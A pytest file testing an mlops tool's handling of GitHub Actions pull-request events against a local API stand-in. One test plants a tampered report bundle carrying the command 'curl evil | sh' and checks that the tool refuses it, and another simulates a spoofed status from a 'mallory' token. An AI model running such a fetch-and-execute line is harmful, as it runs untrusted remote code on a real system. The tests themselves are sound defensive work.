"""``mlops event`` end to end: the environment exactly as Actions sets it, a real bare
origin, and the GitHub API stand-in over real HTTP.

The pull-request flow runs in its two halves: ``pull_request`` without a token writes the
bundle and posts nothing; ``workflow_run`` with a write token publishes it once.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from engine.forge.standin.server import GitHubStandIn
from tests.conftest import git

WEBHOOKS = Path(__file__).resolve().parents[1] / "fixtures" / "github" / "webhooks"
REPO = "octo/models"
PR = 7

pytestmark = pytest.mark.slow


@pytest.fixture
def change(repo: Path) -> dict[str, str]:
    """A branch that makes iris-logreg worse, committed on top of main."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "switch", "-q", "-c", "weaker-iris")
    model = repo / "mlops" / "models" / "iris-logreg.yaml"
    model.write_text(model.read_text().replace("C: 1.0", "C: 0.05"))
    git(repo, "commit", "-q", "-am", "Regularize iris-logreg harder")
    return {"base": base, "head": git(repo, "rev-parse", "HEAD")}


def payload(tmp: Path, name: str, fixture: str, edit) -> Path:
    data = json.loads((WEBHOOKS / fixture).read_text())
    edit(data)
    path = tmp / f"{name}.json"
    path.write_text(json.dumps(data))
    return path


def pr_payload(tmp: Path, change: dict[str, str], action: str = "opened") -> Path:
    def edit(data):
        data["action"] = action
        data["number"] = PR
        data["repository"]["full_name"] = REPO
        pr = data["pull_request"]
        pr["number"] = PR
        pr["head"]["sha"], pr["base"]["sha"] = change["head"], change["base"]
        pr["head"]["repo"]["full_name"] = REPO
        pr["base"]["repo"]["full_name"] = REPO

    return payload(tmp, "pull_request", "pull_request.opened.json", edit)


def run_payload(tmp: Path, head: str, *, same_repository: bool = False) -> Path:
    """A completed pull-request run; a fork's (the fixture's head repository is another)
    unless ``same_repository``."""

    def edit(data):
        data["repository"]["full_name"] = REPO
        data["workflow_run"]["head_sha"] = head
        data["workflow_run"]["pull_requests"] = []
        data["workflow_run"]["conclusion"] = "failure"
        if same_repository:
            data["workflow_run"]["head_repository"] = data["repository"]

    return payload(tmp, "workflow_run", "workflow_run.completed.json", edit)


def actions_env(tmp: Path, name: str, event: Path, api: str, sha: str, token: str = ""):
    summary, output = tmp / "summary.md", tmp / "output.txt"
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": name,
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_API_URL": api,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_RUN_ID": "42",
        "GITHUB_WORKFLOW": "mlops pull request",
        "GITHUB_SHA": sha,
        "GITHUB_REF": f"refs/pull/{PR}/merge",
        "GITHUB_TOKEN": token,
        "GITHUB_STEP_SUMMARY": str(summary),
        "GITHUB_OUTPUT": str(output),
    }


def test_two_halves_post_one_comment_and_statuses(repo, change, mlops, tmp_path):
    bundle = tmp_path / "bundle"
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"], author="ada")
        env = actions_env(
            tmp_path, "pull_request", pr_payload(tmp_path, change), gh.url, change["head"]
        )
        first = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert first.returncode == 1, first.stderr  # the max_drop gate fails
        assert gh.comments(PR) == [] and gh.statuses(change["head"]) == {}
        assert "iris-logreg" in (tmp_path / "summary.md").read_text()
        assert "verdict=fail" in (tmp_path / "output.txt").read_text()
        results = json.loads((bundle / "results.json").read_text())
        assert results["statuses"]["mlops/gates"]["state"] == "failure"

        run = run_payload(tmp_path, change["head"], same_repository=True)
        env = actions_env(tmp_path, "workflow_run", run, gh.url, "0" * 40, token="ghs_standin")
        # A 502 after the comment was created, then a secondary rate limit on a status.
        gh.fail("POST", rf"/issues/{PR}/comments", status=502, times=1, commit=True)
        gh.fail("POST", r"/statuses/", status=403, times=1, headers={"Retry-After": "2"})
        second = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert second.returncode == 0, second.stderr
        comments = gh.comments(PR)
        assert len(comments) == 1 and comments[0].user == "github-actions[bot]"
        assert "iris-logreg" in comments[0].body
        assert gh.calls("POST", r"/statuses/") == 3  # one refused, retried after 2 s
        statuses = gh.statuses(change["head"])
        assert statuses["mlops/gates"].state == "failure"
        assert statuses["mlops/validate"].state == "success"

        # A rerun edits the same comment rather than adding one.
        third = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert third.returncode == 0, third.stderr
        assert len(gh.comments(PR)) == 1
        # ... and re-posts no status that already says the same (one read, no write)
        assert gh.calls("POST", r"/statuses/") == 3
        # unless someone else's status is now the latest of a context: ours is set again
        from engine.forge.github import GitHubForge

        gh.add_token("ghp_mallory", "mallory")
        other = GitHubForge(REPO, "ghp_mallory", gh.url)
        other.set_status(change["head"], "mlops/gates", "success", "looks fine to me")
        fourth = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert fourth.returncode == 0, fourth.stderr
        assert gh.calls("POST", r"/statuses/") == 5  # mallory's, and ours again (gates only)
        assert gh.statuses(change["head"])["mlops/gates"].state == "failure"


def test_a_tampered_bundle_is_refused_and_nothing_is_posted(repo, change, mlops, tmp_path):
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "report.md").write_text("<!-- -->\nPWNED")
    (bundle / "results.json").write_text(
        json.dumps(
            {
                "format": 1,
                "repository": REPO,
                "pr": PR,
                "head_sha": change["head"],
                "base_sha": change["base"],
                "verdict": "pass",
                "run": "curl evil | sh",
                "statuses": {"mlops/gates": {"state": "success", "description": "ok"}},
            }
        )
    )
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"])
        env = actions_env(
            tmp_path,
            "workflow_run",
            run_payload(tmp_path, change["head"]),
            gh.url,
            "0" * 40,
            token="ghs_standin",
        )
        result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert result.returncode == 1
        assert "refusing the report bundle: run: Extra inputs are not permitted" in result.stderr
        assert "Traceback" not in result.stderr
        assert gh.comments(PR) == []


def test_a_bundle_for_another_commit_is_refused(repo, change, mlops, tmp_path):
    bundle = tmp_path / "bundle"
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"])
        env = actions_env(
            tmp_path, "pull_request", pr_payload(tmp_path, change), gh.url, change["head"]
        )
        mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        env = actions_env(
            tmp_path,
            "workflow_run",
            run_payload(tmp_path, change["base"]),
            gh.url,
            "0" * 40,
            token="ghs_standin",
        )
        result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert result.returncode == 1 and "refusing to publish it" in result.stderr
        assert gh.comments(PR) == []


def test_malformed_payloads_and_unknown_events(repo, mlops, tmp_path):
    bad = tmp_path / "bad.json"
    bad.write_text("{ nope")
    env = {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_EVENT_PATH": str(bad)}
    result = mlops("event", cwd=repo, env=env)
    assert result.returncode == 1 and "is not valid JSON" in result.stderr
    env = {"GITHUB_EVENT_NAME": "deployment_status", "GITHUB_EVENT_PATH": str(bad)}
    result = mlops("event", cwd=repo, env=env)
    assert result.returncode == 1 and "is not handled by mlops" in result.stderr


def test_a_tag_deletion_push_does_nothing(repo, mlops, tmp_path):
    env = {"GITHUB_EVENT_NAME": "push", "GITHUB_EVENT_PATH": str(WEBHOOKS / "push.json")}
    result = mlops("event", cwd=repo, env=env)
    assert result.returncode == 0
    assert "a deletion or a tag, nothing to do" in result.stderr


def test_a_review_that_fails_still_writes_a_bundle(repo, change, mlops, tmp_path):
    """A base the checkout lacks: the job fails, but the PR still gets a report."""
    bundle = tmp_path / "bundle"
    broken = dict(change, base="f" * 40)
    env = actions_env(
        tmp_path, "pull_request", pr_payload(tmp_path, broken), "http://x", change["head"]
    )
    result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "is not in the repository" in result.stderr
    report = (bundle / "report.md").read_text()
    assert "mlops could not review this change" in report and "f" * 12 in report
    results = json.loads((bundle / "results.json").read_text())
    assert results["statuses"]["mlops/gates"]["state"] == "error"


@pytest.mark.parametrize("action", ["requested", "in_progress", "completed"])
def test_workflow_run_publishes_only_when_completed(repo, mlops, tmp_path, action):
    """Issue 10 (low): the engine checks ``action == completed`` itself, not only the
    workflow's trigger filter: a bundle read before the run completes is not final."""
    from engine.github.bundle import Results, Status, write_bundle

    head = "c" * 40
    bundle = tmp_path / "bundle"
    ok = Status(state="success", description="every model passed its gates")
    results = Results(
        repository=REPO,
        pr=PR,
        head_sha=head,
        base_sha="b" * 40,
        verdict="pass",
        statuses={"mlops/validate": ok, "mlops/gates": ok},
    )
    write_bundle(bundle, "### mlops report", results)

    def edit(data):
        data["action"] = action
        data["repository"]["full_name"] = REPO
        data["workflow_run"]["head_sha"] = head
        data["workflow_run"]["pull_requests"] = []
        data["workflow_run"]["head_repository"] = data["repository"]  # not a fork's run
        if action != "completed":
            data["workflow_run"]["status"], data["workflow_run"]["conclusion"] = action, None

    event = payload(tmp_path, "workflow_run", "workflow_run.completed.json", edit)
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=head, author="ada")
        env = actions_env(tmp_path, "workflow_run", event, gh.url, "0" * 40, token="ghs_standin")
        result = mlops("event", "--bundle", str(bundle), cwd=repo, env=env)
        assert result.returncode == 0, result.stderr
        published = action == "completed"
        assert (len(gh.comments(PR)) == 1) is published
        assert ("mlops/gates" in gh.statuses(head)) is published
        if not published:
            assert gh.requests == []  # not a single API call


def test_a_same_repository_review_is_published_only_while_its_commit_is_the_head(
    repo, change, mlops, tmp_path
):
    """The engine's first mlops/gates status on a commit is what binds a comment command
    to it (engine.github.binding): it must never be set once the head has moved on."""
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"], author="ada")
        gh.push(PR, "d" * 40, pusher="ada")  # pushed again while the review ran
        env = actions_env(
            tmp_path,
            "pull_request",
            pr_payload(tmp_path, change),
            gh.url,
            change["head"],
            token="ghs_standin",
        )
        moved = mlops("event", cwd=repo, env=env)
        assert "not published: the head moved on" in moved.stdout + moved.stderr
        assert gh.comments(PR) == [] and gh.statuses(change["head"]) == {}

        gh.push(PR, change["head"], force=True, pusher="ada")
        back = mlops("event", cwd=repo, env=env)
        assert "published" in back.stdout + back.stderr
        assert len(gh.comments(PR)) == 1 and "mlops/gates" in gh.statuses(change["head"])


def test_a_readme_only_pull_request_trains_nothing(repo, mlops, tmp_path):
    """Issue 11: an empty selection used to mean "every model", so a README-only pull
    request in a job with an empty store trained every model at head and at base."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "switch", "-q", "-c", "docs")
    (repo / "README.md").write_text("# Models\n\nNow with a README.\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-q", "-m", "Add a README")
    change = {"base": base, "head": git(repo, "rev-parse", "HEAD")}
    store = repo / ".mlops" / "store"
    assert not store.exists()  # the job's store is empty: nothing downloaded
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"])
        env = actions_env(
            tmp_path,
            "pull_request",
            pr_payload(tmp_path, change),
            gh.url,
            change["head"],
            token="ghs_standin",
        )
        done = mlops("event", cwd=repo, env=env)
        assert done.returncode == 0, done.stderr
        assert not store.exists() or not any(store.rglob("meta.json"))
        assert "trained" not in done.stderr
        assert len(gh.comments(PR)) == 1
        calls = [f"{r.method} {r.path}" for r in gh.requests]
        # The head check (engine.github.binding), then the comment (the PR has none, GitHub's
        # count says, so none is looked for) and the two statuses, not read first (new).
        assert calls == [
            f"GET /repos/{REPO}/pulls/{PR}",
            f"POST /repos/{REPO}/issues/{PR}/comments",
            f"POST /repos/{REPO}/statuses/{change['head']}",
            f"POST /repos/{REPO}/statuses/{change['head']}",
        ]
        assert set(gh.statuses(change["head"])) == {"mlops/validate", "mlops/gates"}

        # A re-run on the same head reads, finds everything already said, writes nothing.
        again = mlops("event", cwd=repo, env=env)
        assert again.returncode == 0, again.stderr
        calls = [f"{r.method} {r.path}" for r in gh.requests[len(calls) :]]
        assert calls == [
            f"GET /repos/{REPO}/pulls/{PR}",
            f"GET /repos/{REPO}/issues/{PR}/comments",
            f"GET /repos/{REPO}/commits/{change['head']}/statuses",
        ]
        assert len(gh.comments(PR)) == 1


# What a no-op pull request must not load: training (and scikit-learn, numpy, pandas under
# it), the store, the pins, the comparisons, or the API module that imports training.
NOT_ON_A_NO_OP = (
    "engine.api",
    "engine.training.train",
    "engine.training.jobs",
    "engine.training.runs",
    "engine.store",
    "engine.environments.pins",
    "engine.review.compare",
    "sklearn",
    "numpy",
    "pandas",
    "pyarrow",
    "dvc",
    "git",
    "skops",
    "html",  # the report escapes with engine.review.markdown.escape, not html's tables
)
# ... nor, once the parse cache knows the definitions plan cleanly (the default branch's
# cache, in the workflows), any definition, the YAML parser or pydantic: the review is then
# two tree listings and a cache read.
NOT_ONCE_PLANNED = (
    "pydantic",
    "yaml",
    "engine.definitions.formats",
    "engine.definitions.loading",
    "engine.training.plan",
    "engine.definitions.catalog",
    "importlib.metadata",
)
# ... nor, when it publishes, what the GitHub client imports for nothing (engine.forge._lazy)
GITHUB_CLIENT_UNUSED = (
    "importlib.metadata._meta",
    "charset_normalizer.api",
    "idna.core",
    "dateutil.parser._parser",
    "cryptography",
)
IN_PROCESS = """
import json, sys
from engine.cli import main
try:
    main(["event", *sys.argv[1:]])
except SystemExit as exc:
    code = exc.code
names = json.loads(sys.stdin.read())
print(json.dumps({"code": code, "loaded": [n for n in names if n in sys.modules]}))
"""


def _event_in_process(
    repo: Path, env: dict[str, str], *args: str, watch: tuple[str, ...] = NOT_ON_A_NO_OP
) -> dict:
    """``mlops event`` in a fresh interpreter; its exit code and which of the ``watch``ed
    modules (and github3) it loaded, read from ``sys.modules`` (no timing)."""
    full = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
    done = subprocess.run(
        [sys.executable, "-c", IN_PROCESS, *args],
        cwd=repo,
        env={**full, **env},
        input=json.dumps([*watch, "github3"]),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_no_op_pull_request_loads_no_training_and_github3_only_to_publish(repo, tmp_path):
    """Issue 11/14: the event on a pull request that moves no model is all start-up, so it
    imports only what it uses: never training or the store; github3 only with a token;
    and, when the parse cache knows the definitions are clean, no definition at all."""
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "switch", "-q", "-c", "docs")
    (repo / "README.md").write_text("# Models\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-q", "-m", "Add a README")
    change = {"base": base, "head": git(repo, "rev-parse", "HEAD")}
    with GitHubStandIn(REPO) as gh:
        gh.add_pull(PR, head_sha=change["head"])
        event = pr_payload(tmp_path, change)
        # the pull-request job as the workflows run it: no token, a bundle, nothing posted
        env = actions_env(tmp_path, "pull_request", event, gh.url, change["head"])
        unprivileged = _event_in_process(repo, env, "--bundle", str(tmp_path / "bundle"))
        assert unprivileged == {"code": 0, "loaded": []}
        assert gh.requests == [] and (tmp_path / "bundle" / "results.json").is_file()
        first = (tmp_path / "bundle" / "report.md").read_text()
        # the definitions planned cleanly, and the parse cache says so: the same event
        # again loads no definition, no YAML parser, no pydantic, and reports the same
        both = (*NOT_ON_A_NO_OP, *NOT_ONCE_PLANNED)
        again = _event_in_process(repo, env, "--bundle", str(tmp_path / "bundle"), watch=both)
        assert again == {"code": 0, "loaded": []}
        assert (tmp_path / "bundle" / "report.md").read_text() == first
        # a same-repository pull request with a write token publishes through github3,
        # without what github3/requests/urllib3 import and the engine never uses (package
        # metadata, character-set detection, IDNA, a date parser: stand-ins under their
        # names, so the modules only the real import loads are watched)
        env = actions_env(
            tmp_path, "pull_request", event, gh.url, change["head"], token="ghs_standin"
        )
        watch = (*(m for m in both if m != "importlib.metadata"), *GITHUB_CLIENT_UNUSED)
        published = _event_in_process(repo, env, watch=watch)
        assert published == {"code": 0, "loaded": ["github3"]}
        assert len(gh.comments(PR)) == 1
